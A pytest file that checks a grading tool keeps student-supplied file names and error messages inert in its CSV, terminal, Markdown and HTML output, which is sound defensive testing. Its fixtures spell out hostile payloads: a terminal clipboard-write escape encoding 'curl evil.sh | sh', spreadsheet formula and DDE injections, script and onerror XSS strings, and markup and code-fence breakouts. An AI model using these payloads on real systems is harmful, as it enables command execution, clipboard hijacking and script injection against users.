"""Student text in the grader's outputs stays text: no spreadsheet formula in grades.csv or
moodle.csv (a submission named `=HYPERLINK(...)`), no escape sequence on the instructor's terminal
(an OSC 52 clipboard write, a window title), no Rich markup (`[/]` crashed `grade`), and no HTML or
way out of a code fence in feedback.md. Each case below is a submission of the `tiny` fixture
assignment whose file name or exception message carries the hostile text.
"""
from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

import grader.reports.terminal as render
from grader.commands.grade import GradeReport, grade_submissions
from grader.reports.markdown import feedback_markdown
from grader.core.results import SubmissionResult
from grader.core.results import TestResult as OneTest  # not collected as a test class
from grader.reports.safe_text import csv_cell, printable
from tiny_batch import REFERENCE, TINY

REF = REFERENCE.read_text()
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # OSC 52: write to the clipboard
TITLE = "\x1b]0;you have been pwned\x1b\\"                # OSC 0: the window title, ST-terminated
CLEAR = "\x1b[2J\x1b[H"                                   # CSI: clear the screen
C1 = "\x9b31m"                                            # the 8-bit CSI
BREAKOUT = "```\n<script>alert('fence')</script>\n<img src=x onerror=alert(1)>"
MARKUP = "[/] [bold red]not markup[/bold red] [link=http://evil]x[/link]"
HOSTILE = f"{CLIPBOARD}{TITLE}{CLEAR}{C1} {MARKUP} {BREAKOUT} [click](javascript:alert(1)) &amp; done"

FORMULA_NAMES = ['=HYPERLINK("http:evil","click")', "@SUM(1+1)", "+cmd|' calc'!A0", "-2+3"]


# --- the functions on their own --------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http:evil","click")', '\'=HYPERLINK("http:evil","click")'),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+cmd|' calc'!A0", "'+cmd|' calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\n=1"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("5", "5"), ("1e-3", "1e-3"), ("-1.5E+2", "-1.5E+2"),   # numbers stay numbers
    (5, 5), (-0.5, -0.5), ("", ""), ("a=b", "a=b"), ("Participant 101", "Participant 101"),
    ("x\x1b]0;t\x07", "x\\x1b]0;t\\x07"),
])
def test_csv_cells(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("text, shown", [
    (CLIPBOARD, "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
    (TITLE, "\\x1b]0;you have been pwned\\x1b\\"),
    (CLEAR, "\\x1b[2J\\x1b[H"),
    (C1, "\\x9b31m"),
    ("evil\u202etxt.py", "evil\\u202etxt.py"),          # a right-to-left override
    ("100%\rdone", "100%\ndone"),                       # a CR cannot overwrite what was printed
    ("a\tb\nc", "a\tb\nc"),
    ("árvíztűrő ✔", "árvíztűrő ✔"),
])
def test_printable(text, shown):
    assert printable(text) == shown


def _tokens(markdown: str):
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    for t in tokens:
        yield t
        yield from t.children or []


def test_feedback_markdown_keeps_student_text_inert():
    result = SubmissionResult(f"id`with``ticks {MARKUP}", "tiny", "embedded", status="rejected",
                              reason=f"bad <b>input</b>\n# heading {HOSTILE}", total_points=2, tests=[
        OneTest(name="answer | 42 <i>", nodeid="t.py::a", points=1, score=0, status="failed", visibility="visible",
                message=f"your code raised ValueError: {HOSTILE}", detail=f"Traceback\n{BREAKOUT}\n````\n<b>x</b>",
                notes=[f"note {BREAKOUT}"]),
    ])
    result.notes = [f"cell 2: `!curl {BREAKOUT}` is IPython-only and was neutralised"]
    md = feedback_markdown(result, title="Tiny <b>")
    tokens = list(_tokens(md))
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_block", "html_inline", "link_open", "image"}, kinds
    fences = [t.content for t in tokens if t.type == "fence"]
    assert fences == [printable(f"your code raised ValueError: {HOSTILE}") + "\n",
                      printable(f"Traceback\n{BREAKOUT}\n````\n<b>x</b>") + "\n"]   # whole, not closed early
    assert [t.content for t in tokens if t.type == "code_inline"] == [f"id`with``ticks {MARKUP}"]
    assert not any(t.type == "heading_open" and t.tag == "h1" for t in tokens[3:])   # only the title is an h1
    cells = [t.type for t in tokens if t.type in ("tr_open", "th_open", "td_open")]
    assert cells == ["tr_open"] + ["th_open"] * 3 + ["tr_open"] + ["td_open"] * 3     # the | did not add a cell
    assert "answer | 42 &lt;i&gt;" in [t.content for t in tokens if t.type == "inline"]
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<script" not in html and "<img" not in html and "<b>" not in html and "\x1b" not in html


def _terminal(monkeypatch) -> io.StringIO:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=400)   # no wrapping
    monkeypatch.setattr(render, "console", console)
    monkeypatch.setattr(render, "err_console", console)
    return out


SGR = re.compile(r"\x1b\[[0-9;]*m")   # Rich's own colours: the only escape sequences allowed through


def _assert_inert(text: str) -> None:
    rest = SGR.sub("", text)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", rest.replace("\n", "")), repr(rest[:300])


def test_render_result_shows_hostile_text_as_text(monkeypatch):
    out = _terminal(monkeypatch)
    result = SubmissionResult(f"sub {MARKUP}{TITLE}", "tiny", "embedded", status="rejected",
                              reason=f"reason {HOSTILE}", total_points=1, tests=[
        OneTest(name=f"test {MARKUP}", nodeid="t.py::a", points=1, score=0, status="failed", visibility="visible",
                message=f"raised: {HOSTILE}\nsecond line {CLIPBOARD}", detail=f"detail {MARKUP}")])
    result.notes = [f"note {MARKUP} {CLEAR}"]
    result.grader_errors = [f"Traceback {MARKUP} {CLIPBOARD}"]
    render.render_result(result, title=f"Tiny {MARKUP}")
    text = out.getvalue()
    _assert_inert(text)
    plain = SGR.sub("", text)
    assert "[/] [bold red]not markup[/bold red]" in plain and "\\x1b]52;c;" in plain


def test_an_error_quoting_a_zip_member_is_inert(monkeypatch):
    """A Moodle export whose member is named `a[/]b` (folders `a[` and `]b`) with OSC 52 in it."""
    out = _terminal(monkeypatch)
    render.render_error(f"submissions.zip: the zip member 'a[/]b{CLIPBOARD}' is encrypted")
    _assert_inert(out.getvalue())
    assert "the zip member 'a[/]b\\x1b]52;c;" in SGR.sub("", out.getvalue())


# --- one grading run of hostile submissions --------------------------------------------------------

MESSAGE_SUBMISSION = REF.replace("return 42", f"raise ValueError({HOSTILE!r})")
NOTEBOOK_NOTE = "!curl <script>alert('note')</script>"


@dataclass
class Run:
    out: Path
    report: GradeReport


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Run:
    tmp = tmp_path_factory.mktemp("hygiene")
    subs = tmp / "subs"
    subs.mkdir()
    for name in FORMULA_NAMES:
        (subs / f"{name}.py").write_text(REF)
    (subs / "hostile_message.py").write_text(MESSAGE_SUBMISSION)
    (subs / f"[bold red]markup[link=evil] {CLIPBOARD}.py").write_text(REF)   # a file name: markup, OSC 52
    (subs / "hostile_note.py").write_text(REF + f"\n\ntrain('{MARKUP} {CLIPBOARD}')\n")   # a skipped call: a note
    report = grade_submissions(assignment=TINY, submissions=[subs], out=tmp / "out", jobs=2)
    return Run(tmp / "out", report)


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-]?[\d.]+", cell), cell
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell), repr(cell)


@pytest.mark.slow
def test_grades_and_moodle_csv_hold_no_formula(graded: Run):
    grades = _cells(graded.out / "grades.csv")
    _no_formula(grades)
    ids = [r[0] for r in grades[1:]]
    for name in FORMULA_NAMES:
        assert "'" + name in ids                     # the apostrophe shows the id as it is
    scores = {r[0]: r[4] for r in grades[1:]}
    assert scores["'" + FORMULA_NAMES[0]] == "5" and scores["hostile_message"] == "4"
    _no_formula(_cells(graded.out / "moodle.csv"))


@pytest.mark.slow
def test_integrity_csv_holds_no_formula(graded: Run):
    rows = _cells(graded.out / "integrity.csv")
    assert any(FORMULA_NAMES[0] in c for r in rows for c in r)
    _no_formula(rows)


@pytest.mark.slow
def test_the_grade_summary_on_the_terminal_is_inert(graded: Run, monkeypatch):
    out = _terminal(monkeypatch)
    render.render_grade_summary(graded.report, quiet=False)
    text = out.getvalue()
    _assert_inert(text)
    plain = SGR.sub("", text)
    assert "[bold red]markup[link=evil] \\x1b]52;c;" in plain


@pytest.mark.slow
def test_feedback_md_and_html_show_the_message_as_text(graded: Run):
    md = (graded.out / "hostile_message" / "feedback.md").read_text(encoding="utf-8")
    tokens = list(_tokens(md))
    assert not {t.type for t in tokens} & {"html_block", "html_inline", "link_open", "image"}
    fence = next(t.content for t in tokens if t.type == "fence")
    assert "<script>alert('fence')</script>" in fence and "\\x1b]52;c;" in fence
    assert "\x1b" not in md

    for page in (graded.out / "hostile_message" / "feedback.html", graded.out / "hostile_note" / "feedback.html",
                 graded.out / "summary.html"):
        parsed = _Tags()
        parsed.feed(page.read_text(encoding="utf-8"))
        assert not {"script", "img", "a"} & set(parsed.tags), page
    parsed = _Tags()
    parsed.feed((graded.out / "hostile_message" / "feedback.html").read_text(encoding="utf-8"))
    assert "<script>alert('fence')</script>" in "".join(parsed.text)          # shown to the student, as text
    note = (graded.out / "hostile_note" / "feedback.md").read_text(encoding="utf-8")
    assert "train('\\[/\\] \\[bold red\\]" in note and "\x1b" not in note


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)
